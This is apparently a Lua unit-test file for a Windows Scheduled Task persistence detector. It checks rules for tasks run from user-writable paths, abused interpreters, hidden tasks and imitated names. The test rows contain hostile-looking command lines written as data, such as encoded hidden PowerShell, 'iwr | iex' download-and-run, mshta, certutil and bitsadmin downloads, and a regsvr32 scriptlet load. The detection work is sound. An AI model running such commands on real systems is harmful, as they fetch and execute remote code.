-- The tasks policy (lua/tasks.lua) on hand-made rows: each rule fires on its
-- shape and stays silent on the legitimate look-alike, allow entries and
-- extend work, and the shared helpers it uses are the services policy's.
local tasks = require "tasks"
local commands = require "hh.commands"

local n = 0
-- A row as plugin.tasks builds it: an exec task by default.
local function row(t)
  n = n + 1
  local r = {
    path = t.path or ("\\Vendor\\Task" .. n), guid = "{00000000-0000-0000-0000-" .. string.format("%012d", n) .. "}",
    author = t.author, in_tree = t.in_tree ~= false, in_tasks = t.in_tasks ~= false, has_sd = t.has_sd ~= false,
    index = t.index or 3, hidden = t.hidden or false, actions = t.actions,
    created = t.created, created_epoch = t.created_epoch,
    key = "Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{x" .. n .. "}",
    hive = "SOFTWARE", hive_kind = "SOFTWARE", technique = "T1053.005",
    actions_error = t.actions_error,
  }
  r.name = r.path:match("([^\\]+)$")
  if not r.actions and t.command then
    r.actions = { { type = "exec", command = t.command, arguments = t.arguments } }
  end
  r.actions = r.actions or {}
  return r
end

local function run(rows, extra, policy)
  local input = { plugin = "tasks", rows = rows, classes = true }
  for k, v in pairs(extra or {}) do input[k] = v end
  return (policy or tasks).evaluate(input, {})
end

local function hits(findings, rule, path)
  local out = {}
  for _, f in ipairs(findings) do
    if f.rule == rule and (path == nil or f.task == path) then out[#out + 1] = f end
  end
  return out
end

local function fires(rule, r, extra)
  local f = hits(run({ r }, extra), rule)
  return f[1]
end

describe("tasks policy rules", function()
  it("action-user-writable: Public, Temp, AppData; a script payload; a COM server in AppData", function()
    assert.truthy(fires("action-user-writable", row { command = [[C:\Users\Public\x.exe]] }))
    assert.truthy(fires("action-user-writable", row { command = [[%TEMP%\x.exe]] }))
    assert.truthy(fires("action-user-writable", row { command = [[wscript.exe]], arguments = [["C:\Users\bob\AppData\Roaming\a.vbs"]] }))
    local f = fires("action-user-writable", row { actions = { { type = "com", clsid = "{1}", registered = true,
      server = [[C:\Users\bob\AppData\Local\t.dll]] } } })
    assert.equal([[c:\users\bob\appdata\local\t.dll]], f.evidence.normalized)
    assert.equal("high", f.severity)
    assert.falsy(fires("action-user-writable", row { command = [[C:\Program Files\Vendor\upd.exe]] }))
  end)

  it("action-user-writable allows OneDrive's and Teams' per-user updaters in AppData", function()
    assert.falsy(fires("action-user-writable", row {
      command = [[%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe]] }))
    assert.falsy(fires("action-user-writable", row {
      command = [[C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe]], arguments = "/reporting" }))
    assert.truthy(fires("action-user-writable", row { command = [[C:\Users\bob\AppData\Local\Microsoft\OneDriveX\o.exe]] }))
  end)

  it("action-programdata: low, and Defender's platform directory is allowed", function()
    local f = fires("action-programdata", row { command = [[C:\ProgramData\Vendor\a.exe]] })
    assert.equal("low", f.severity)
    assert.falsy(fires("action-programdata", row {
      command = [[C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.1-0\MpCmdRun.exe]] }))
  end)

  it("action-interpreter: PowerShell encoded/hidden is high, plain cmd /c medium", function()
    local f = fires("action-interpreter", row { command = "powershell.exe", arguments = "-w hidden -enc AAAA" })
    assert.equal("high", f.severity)
    assert.same({ "-enc", "-w hidden" }, f.evidence.markers)
    f = fires("action-interpreter", row { command = [[%ComSpec%]], arguments = [[/c C:\tools\backup.bat]] })
    assert.equal("cmd", f.evidence.interpreter)
    assert.equal("medium", f.severity)
    f = fires("action-interpreter", row { command = "pwsh.exe", arguments = "-c iwr https://x/y | iex" })
    assert.equal("high", f.severity)
  end)

  it("action-interpreter: mshta always, high with a URL; certutil and bitsadmin downloads", function()
    assert.equal("high", fires("action-interpreter", row { command = "mshta.exe", arguments = "http://a/b.hta" }).severity)
    assert.equal("high", fires("action-interpreter", row { command = "mshta.exe", arguments = "vbscript:Execute(\"x\")" }).severity)
    assert.equal("high", fires("action-interpreter", row { command = "certutil.exe",
      arguments = "-urlcache -split -f http://a/b.exe C:\\ProgramData\\b.exe" }).severity)
    assert.equal("high", fires("action-interpreter", row { command = "bitsadmin.exe",
      arguments = "/transfer j http://a/b C:\\b" }).severity)
  end)

  it("action-interpreter: rundll32/regsvr32 only with a DLL outside system directories or a scriptlet", function()
    assert.falsy(fires("action-interpreter", row { command = [[%windir%\system32\rundll32.exe]],
      arguments = "/d acproxy.dll,PerformAutochkOperations" }))
    assert.falsy(fires("action-interpreter", row { command = "rundll32.exe",
      arguments = [[%windir%\System32\SharedPCCSP.dll,RunAccountCleanup]] }))
    local f = fires("action-interpreter", row { command = "rundll32.exe", arguments = [[C:\Users\Public\x.dll,Start]] })
    assert.equal([[c:\users\public\x.dll]], f.evidence.payload)
    assert.equal("high", fires("action-interpreter", row { command = "regsvr32.exe",
      arguments = "/s /n /u /i:http://a/k.sct scrobj.dll" }).severity)
    assert.falsy(fires("action-interpreter", row { command = "regsvr32.exe", arguments = "/s C:\\Windows\\System32\\x.dll" }))
  end)

  it("action-interpreter: msiexec only from a URL; scripts only outside Windows' directories", function()
    assert.equal("high", fires("action-interpreter", row { command = "msiexec.exe", arguments = "/q /i https://a/b.msi" }).severity)
    assert.falsy(fires("action-interpreter", row { command = "msiexec.exe", arguments = "/fa {GUID}" }))
    assert.falsy(fires("action-interpreter", row { command = [[%windir%\system32\gatherNetworkInfo.vbs]] }))
    assert.truthy(fires("action-interpreter", row { command = [[C:\Tools\run.ps1]] }))
  end)

  it("hidden-task: a Tree entry without SD, or with Index 0, is high on its own", function()
    local f = fires("hidden-task", row { command = [[C:\Program Files\V\v.exe]], hidden = true, has_sd = false })
    assert.equal("high", f.severity)
    assert.is_false(f.evidence.has_sd)
    assert.falsy(fires("hidden-task", row { command = [[C:\Program Files\V\v.exe]] }))
  end)

  it("tree-tasks-mismatch: a task in only one of Tree and Tasks", function()
    assert.truthy(fires("tree-tasks-mismatch", row { in_tasks = false }))
    assert.truthy(fires("tree-tasks-mismatch", row { command = "x.exe", in_tree = false }))
    assert.falsy(fires("tree-tasks-mismatch", row { command = "x.exe" }))
  end)

  it("microsoft-folder-foreign: a non-system program or a foreign author under \\Microsoft\\Windows\\", function()
    local p = [[\Microsoft\Windows\Foo\Bar]]
    assert.truthy(fires("microsoft-folder-foreign", row { path = p, command = [[C:\Program Files\X\x.exe]] }))
    assert.truthy(fires("microsoft-folder-foreign", row { path = p, command = [[%windir%\system32\x.exe]], author = "hacker" }))
    assert.truthy(fires("microsoft-folder-foreign", row { path = p, command = [[C:\Windows\Temp\x.exe]] }))
    assert.falsy(fires("microsoft-folder-foreign", row { path = p, command = [[%windir%\system32\x.exe]],
      author = "$(@%SystemRoot%\\system32\\wininet.dll,-16000)" }))
    assert.falsy(fires("microsoft-folder-foreign", row { path = p, command = [[sc.exe]], author = "Microsoft Corporation" }))
    assert.falsy(fires("microsoft-folder-foreign", row { path = [[\Microsoft\Office\Upd]], command = [[C:\Program Files\X\x.exe]] }))
  end)

  it("name-imitation: a near-miss of Microsoft, a stock name elsewhere, a Windows-like name at the root", function()
    assert.truthy(fires("name-imitation", row { path = [[\Micosoft\Windows\Defrag]], command = "x.exe" }))
    assert.truthy(fires("name-imitation", row { path = [[\ScheduledDefrag]], command = [[C:\Program Files\D\d.exe]] }))
    assert.truthy(fires("name-imitation", row { path = [[\WindowsUpdateCheck]], command = [[C:\ProgramData\w.exe]] }))
    assert.falsy(fires("name-imitation", row { path = [[\MicrosoftEdgeUpdateTaskMachineCore]],
      command = [[C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe]] }))
    assert.falsy(fires("name-imitation", row { path = [[\Microsoft\Windows\Defrag\ScheduledDefrag]],
      command = [[%windir%\system32\defrag.exe]] }))
    -- a name taken from this hive's own \Microsoft\Windows\ tasks, at the root; not in a
    -- vendor's folder, and not when it is short
    local rows = { row { path = [[\Microsoft\Windows\Foo\FooSync]], command = "foo.exe" },
                   row { path = [[\FooSync]], command = [[C:\Program Files\V\f.exe]] },
                   row { path = [[\Vendor\FooSync]], command = [[C:\Program Files\V\f.exe]] },
                   row { path = [[\Microsoft\Windows\Autochk\Proxy]], command = "p.exe" },
                   row { path = [[\Proxy]], command = [[C:\Program Files\V\p.exe]] } }
    local fs = run(rows)
    assert.equal(1, #hits(fs, "name-imitation", [[\FooSync]]))
    assert.equal(0, #hits(fs, "name-imitation", [[\Vendor\FooSync]]))
    assert.equal(0, #hits(fs, "name-imitation", [[\Proxy]]))
  end)

  it("com-handler-unregistered: only when the hive has Classes\\CLSID to look in", function()
    local r = row { actions = { { type = "com", clsid = "{DEAD}", registered = false } } }
    assert.truthy(fires("com-handler-unregistered", r))
    assert.falsy(fires("com-handler-unregistered", r, { classes = false }))
    assert.falsy(fires("com-handler-unregistered", row { actions = { { type = "com", clsid = "{A}", registered = true,
      server = [[%SystemRoot%\system32\a.dll]] } } }))
  end)

  it("blob-undecodable: a blob that does not decode", function()
    assert.equal("medium", fires("blob-undecodable", row { actions_error = "Actions version 9" }).severity)
    assert.falsy(fires("blob-undecodable", row { command = "x.exe" }))
  end)

  it("created-in-window: creation inside --since/--until only", function()
    local r = row { command = "x.exe", created = "2026-10-13T02:00:00Z", created_epoch = 1791856800 }
    assert.truthy(fires("created-in-window", r, { since = "2026-10-12T00:00:00Z" }))
    assert.falsy(fires("created-in-window", r, { since = "2026-10-14T00:00:00Z" }))
    assert.falsy(fires("created-in-window", r))
  end)

  it("creation-burst: a compact burst far from the install is medium; no burst, no finding", function()
    local rows = {}
    for i = 1, 60 do
      rows[#rows + 1] = row { command = "a.exe", created_epoch = 1710061200 + i * 20 }
    end
    local quiet = run(rows)
    assert.equal(0, #hits(quiet, "creation-burst"))
    for i = 1, 6 do
      rows[#rows + 1] = row { command = "b.exe", created_epoch = 1791856800 + i * 300 }
    end
    local f = hits(run(rows), "creation-burst")
    assert.equal(6, #f)
    assert.equal("medium", f[1].severity)
    assert.equal(6, f[1].evidence.burst_size)
  end)

  it("baseline: added, removed and changed actions against a golden hive's rows", function()
    local a = row { path = [[\A]], command = [[%windir%\system32\a.exe]] }
    local b = row { path = [[\B]], command = [[%windir%\system32\b.exe]] }
    local a2 = row { path = [[\a]], command = [[C:\Windows\System32\A.EXE]] }  -- same file, other spelling
    local c = row { path = [[\C]], command = [[C:\Program Files\C\c.exe]] }
    local base = { rows = { a, b }, source = "golden" }
    local fs = run({ a2, c }, { baseline = base })
    assert.equal(1, #hits(fs, "baseline-task-added", [[\C]]))
    assert.equal(1, #hits(fs, "baseline-task-removed", [[\B]]))
    assert.equal(0, #hits(fs, "baseline-action-changed"))
    local a3 = row { path = [[\A]], command = [[C:\Users\Public\a.exe]] }
    assert.equal(1, #hits(run({ a3, b }, { baseline = base }), "baseline-action-changed", [[\A]]))
    assert.equal(0, #hits(run({ a3, b }), "baseline-task-added"))
  end)
end)

describe("tasks findings and extension", function()
  it("carry the locating fields every plugin shares and the task's own", function()
    local r = row { path = [[\Evil]], command = [[C:\Users\Public\e.exe]], created = "2026-10-13T02:00:00Z",
                    created_epoch = 1791856800 }
    local f = fires("action-user-writable", r)
    assert.equal("tasks", f.plugin)
    assert.equal("T1053.005", f.technique)
    assert.equal([[\Evil]], f.task)
    assert.equal([[\Evil]], f.path)
    assert.equal(r.actions, f.actions)
    assert.equal("2026-10-13T02:00:00Z", f.created)
    assert.equal(r.key, f.key)
    assert.equal("SOFTWARE", f.hive)
    assert.equal("SOFTWARE", f.hive_kind)
    assert.equal("2026-10-13T02:00:00Z", f.datetime)
    assert.is_nil(f.service)
  end)

  it("extend: allow by task path, re-weight, disable", function()
    local r = row { path = [[\Vendor\Agent]], command = [[C:\ProgramData\Vendor\agent.exe]] }
    local mine = tasks.extend {
      allow = { { rule = "action-programdata", task = [[\vendor\agent]], note = "our agent" } },
      weights = { ["hidden-task"] = 12 },
      disable = { "name-imitation" },
    }
    assert.equal(0, #hits(run({ r }, nil, mine), "action-programdata"))
    assert.equal(1, #hits(run({ r }), "action-programdata"))
    local h = hits(run({ row { command = "x.exe", hidden = true } }, nil, mine), "hidden-task")[1]
    assert.equal("critical", h.severity)
    assert.equal(0, #hits(run({ row { path = [[\ScheduledDefrag]], command = [[C:\P\d.exe]] } }, nil, mine), "name-imitation"))
    assert.has_error(function() tasks.extend { allow = { { rule = "no-such-rule", task = "x" } } } end)
  end)

  it("shares hh.commands' lists with the services policy (one table, not a copy)", function()
    local services = require "services"
    assert.equal(commands.USER_WRITABLE, services.data.USER_WRITABLE)
    assert.equal(commands.INTERPRETERS, services.data.INTERPRETERS)
  end)
end)
